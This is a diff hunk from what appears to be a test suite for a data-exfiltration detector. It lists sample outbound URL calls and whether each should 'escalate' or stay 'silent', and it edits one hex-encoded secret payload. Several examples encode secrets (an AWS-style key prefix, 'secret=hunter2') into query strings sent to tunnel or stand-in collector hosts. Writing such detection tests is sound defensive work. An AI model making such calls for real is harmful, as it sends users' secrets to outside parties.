@@ -91,7 +91,7 @@ const exfiltrationExamples = (trusted: ReadonlySet<string>) => {
     call("https://abcdef.ngrok-free.app/", "escalate"),
     call("https://exfil-collector.example.net/beacon", "escalate"),
     call("https://example.com/t?k=%41%4b%49%41", "escalate"),
-    call("https://example.com/t?d=7365637265743d68756e746572320a", "escalate"),
+    call("https://example.com/t?d=7365637265743d68756e746572322121", "escalate"),
     call("https://d111111abcdef8.cloudfront.net/a.js", "silent"),
     call("https://pastebin.com/raw/0b42rwhf", "silent"),
     call("https://example.com/search?q=caf%C3%A9%20menu", "silent"),
